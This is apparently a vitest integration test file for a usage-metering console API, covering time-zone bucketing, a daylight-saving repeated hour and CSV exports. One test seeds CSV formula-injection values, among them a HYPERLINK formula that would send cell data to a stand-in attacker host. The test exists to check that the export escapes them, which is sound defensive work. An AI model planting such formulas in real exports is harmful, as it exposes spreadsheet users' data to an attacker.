import { beforeAll, describe, expect, it } from "vitest";

import { compactUsageFully } from "@slotwise/db/testing";

import { startApi, type Api } from "./harness.ts";
import { trpcClient } from "./trpc-client.ts";

let api: Api;
let client: ReturnType<typeof trpcClient>;
let record: (Meter: string, Usage: number, iso: string) => Promise<Response>;
const at = (iso: string) => Math.floor(Date.parse(iso) / 1000);

beforeAll(async () => {
  api = await startApi();
  const key = await api.key({ scopes: ["usage:write"] });
  record = (Meter, Usage, iso) =>
    api.request("/api/v2/usage/meters", { method: "POST", key, json: { Meter, Usage, OccurredAt: at(iso) } });
  // Kolkata is UTC+5:30: 18:29Z is 23:59 on the 1st there, 18:30Z already the 2nd.
  await record("series-a", 1.5, "2026-02-01T18:29:00Z");
  await record("series-a", 2, "2026-02-01T18:30:00Z");
  await record("series-b", 4, "2026-02-02T03:10:00Z");
  await compactUsageFully(api.db);
  await record("series-a", 0.25, "2026-02-02T03:40:00Z");
  client = trpcClient(api.base);
  await client.console.session.signIn.mutate({ email: "demo@example.com", password: "correct-horse-battery" });
});

describe("console usage", () => {
  it("gives a per-day series in the chosen zone for long ranges", async () => {
    const series = await client.console.usage.series.query({
      from: "2026-01-25",
      to: "2026-02-05",
      tz: "Asia/Kolkata",
    });
    expect(series.unit).toBe("day");
    expect(series.points.filter((p) => p.Meter.startsWith("series-"))).toEqual([
      { Meter: "series-a", Bucket: "2026-02-01", Usage: 1.5, Events: 1 },
      { Meter: "series-a", Bucket: "2026-02-02", Usage: 2.25, Events: 2 },
      { Meter: "series-b", Bucket: "2026-02-02", Usage: 4, Events: 1 },
    ]);
  });

  it("shows the hour the autumn change repeats as one bar", async () => {
    // Lisbon falls back from 02:00 WEST to 01:00 WET on 2026-10-25: 00:30Z and 01:30Z are both 01:30 there.
    await record("series-autumn", 0.1, "2026-10-25T00:30:00Z");
    await record("series-autumn", 0.2, "2026-10-25T01:30:00Z");
    const series = await client.console.usage.series.query({
      from: "2026-10-25",
      to: "2026-10-25",
      tz: "Europe/Lisbon",
    });
    expect(series.points.filter((p) => p.Meter === "series-autumn")).toEqual([
      { Meter: "series-autumn", Bucket: "2026-10-25T01:00", Usage: 0.3, Events: 2 },
    ]);
  });

  it("gives a per-hour series for ranges of up to 3 days, with half-hour offsets kept exact", async () => {
    const series = await client.console.usage.series.query({
      from: "2026-02-02",
      to: "2026-02-02",
      tz: "Asia/Kolkata",
    });
    expect(series.unit).toBe("hour");
    expect(series.points.filter((p) => p.Meter.startsWith("series-"))).toEqual([
      { Meter: "series-a", Bucket: "2026-02-02T00:00", Usage: 2, Events: 1 },
      { Meter: "series-b", Bucket: "2026-02-02T08:00", Usage: 4, Events: 1 },
      { Meter: "series-a", Bucket: "2026-02-02T09:00", Usage: 0.25, Events: 1 },
    ]);
  });

  it("exports the summary and the series as CSV", async () => {
    const summary = await client.console.usage.csv.query({
      from: "2026-02-02",
      to: "2026-02-02",
      tz: "Asia/Kolkata",
      kind: "summary",
    });
    expect(summary.filename).toBe("usage-summary-2026-02-02-to-2026-02-02.csv");
    const lines = summary.csv.trim().split("\n");
    expect(lines[0]).toBe(`"meter","total_usage","event_count","built_in","unit"`);
    expect(lines).toContain(`"series-b","4","1","no",`);
    expect(lines).toContain(`"series-a","2.25","2","no",`);
    expect(lines.at(-1)).toBe(`"TOTAL",,"3",,`);
    const series = await client.console.usage.csv.query({
      from: "2026-02-02",
      to: "2026-02-02",
      tz: "Asia/Kolkata",
      kind: "series",
    });
    expect(series.csv.trim().split("\n")).toEqual(
      expect.arrayContaining([`"hour","meter","usage","events"`, `"2026-02-02T08:00","series-b","4","1"`]),
    );
  });

  it("writes meter names a spreadsheet would run as formulas as text in both CSVs", async () => {
    // The meter alphabet refuses "=" today, but entries recorded before it was enforced may hold one.
    const { operatorId } = await api.db.usageEntry.findFirstOrThrow({ where: { meter: "series-a" } });
    await api.db.usageEntry.create({
      data: {
        operatorId,
        meter: '=HYPERLINK("https://evil.example/?"&A1,"open")',
        usage: 1,
        occurredAt: new Date("2026-03-03T10:00:00Z"),
      },
    });
    expect((await record("-cmd", 2, "2026-03-03T11:00:00Z")).status).toBe(201);
    const input = { from: "2026-03-03", to: "2026-03-03", tz: "UTC" };
    const summary = (await client.console.usage.csv.query({ ...input, kind: "summary" })).csv.trim().split("\n");
    expect(summary).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")","1","1","no",`);
    expect(summary).toContain(`"'-cmd","2","1","no",`);
    const series = (await client.console.usage.csv.query({ ...input, kind: "series" })).csv.trim().split("\n");
    expect(series).toContain(`"2026-03-03T10:00","'=HYPERLINK(""https://evil.example/?""&A1,""open"")","1","1"`);
    expect(series).toContain(`"2026-03-03T11:00","'-cmd","2","1"`);
  });

  it("marks the built-in meters in the console's summary", async () => {
    const summary = await client.console.usage.summary.query({ from: "2026-02-01", to: "2026-02-02" });
    expect(summary.BuiltInMeters).toEqual(["order-completed", "waitlist-notified", "workflow-email-sent"]);
    expect(summary.Period.TimeZone).toBe("Europe/Lisbon");
  });
});
